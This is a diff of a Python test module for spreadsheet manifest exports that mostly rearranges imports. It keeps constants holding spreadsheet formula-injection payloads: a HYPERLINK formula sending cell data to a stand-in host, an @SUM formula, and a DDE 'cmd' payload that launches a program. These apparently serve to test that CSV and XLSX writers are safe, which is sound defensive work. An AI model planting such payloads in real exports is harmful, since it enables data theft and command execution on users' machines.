@@ -8,23 +8,20 @@ from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
-from sqlalchemy import Table, update
+from sqlalchemy import update
 
-from jpgb_terminal.manifests import build_manifest, export_to_file, write_manifest
+from jpgb_terminal.manifests import export_to_file, write_manifest
 from jpgb_terminal.manifests.totals import Totals
 from jpgb_terminal.manifests.writers import write_csv, write_xlsx
+from jpgb_terminal.services.manifest_rows import build_manifest
 from jpgb_terminal.store import Store
-from jpgb_terminal.store.outbound import Box
-from jpgb_terminal.store.tables import Hold, Parcel
+from jpgb_terminal.store.handles import BOX, HOLD, PARCEL
 from tests.manifests.test_outbound import DAY, EXPORTER, START, pack
 from tests.services.test_shipments import csv_bytes, row, stock
 
 EVIL_STATION = '=HYPERLINK("http://ev.il/"&A1,"go")'
 EVIL_OPERATOR = "@SUM(1+1)"
 EVIL_VERSION = "+cmd|' /C calc'!A0"
-PARCEL: Table = Parcel.__table__  # type: ignore[attr-defined]
-HOLD: Table = Hold.__table__  # type: ignore[attr-defined]
-BOX: Table = Box.__table__  # type: ignore[attr-defined]
 EVIL = {EVIL_STATION, EVIL_OPERATOR, EVIL_VERSION}
 
 
